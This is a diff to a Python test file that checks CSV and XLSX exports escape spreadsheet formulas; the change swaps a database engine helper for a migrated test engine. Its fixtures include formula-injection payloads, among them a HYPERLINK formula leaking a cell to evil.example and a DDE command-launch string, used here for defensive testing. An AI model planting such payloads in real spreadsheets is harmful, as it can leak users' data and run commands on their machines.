@@ -14,9 +14,9 @@ from openpyxl import load_workbook
 
 from knowledge.access.audit import AuditLog, audit_csv
 from knowledge.contracts.book import EXPORT_COLUMNS, ClauseRecord, export_csv, export_xlsx
-from knowledge.core.db import make_engine
 from knowledge.core.exports import csv_bytes, safe_cell, write_csv, xlsx_bytes
 from knowledge.usage.events import UsageEvent, UsageFilter, UsageLog
+from tests.db import migrated_engine
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
@@ -161,7 +161,7 @@ def test_clause_xlsx_holds_strings_not_formulas():
 
 
 def test_audit_csv_escapes_user_names_targets_and_details(database_url: str):
-    log = AuditLog(make_engine(database_url))
+    log = AuditLog(migrated_engine(database_url))
     log.record("=cmd|' /C calc'!A0", "sign_in_failed", "+1", outcome="failed")
     log.record("ann", "upload", "@HR/-2+3.pdf", channel="chat", status="added")
     rows = read_csv(audit_csv(log.events()))
@@ -172,7 +172,7 @@ def test_audit_csv_escapes_user_names_targets_and_details(database_url: str):
 
 
 def test_usage_csv_escapes_questions_users_and_comments_not_numbers(database_url: str):
-    log = UsageLog(make_engine(database_url), "full")
+    log = UsageLog(migrated_engine(database_url), "full")
     created = datetime(2026, 3, 1, 12, tzinfo=UTC)
     log.record_many(
         [
